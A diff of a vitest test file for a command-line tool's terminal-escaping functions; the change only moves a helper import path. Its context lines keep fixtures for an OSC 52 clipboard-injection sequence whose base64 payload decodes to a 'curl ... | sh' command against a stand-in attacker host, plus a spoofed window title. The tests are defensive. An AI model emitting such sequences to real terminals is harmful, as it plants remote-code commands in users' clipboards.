@@ -5,7 +5,7 @@ import { afterAll, describe, expect, it } from 'vitest';
 import { Chalk } from 'chalk';
 import { safeOutput } from '../../src/cli/process-context.js';
 import { SHOW_CURSOR, escapeControls, terminalSafe } from '../../src/terminal/safe-text.js';
-import { fixture, runBin } from '../helpers/cli.js';
+import { fixture, runBin } from '../support/cli.js';
 
 const OSC52 = '\x1b]52;c;Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaA==\x07';
 const TITLE = '\x1b]0;Pwned\x07';
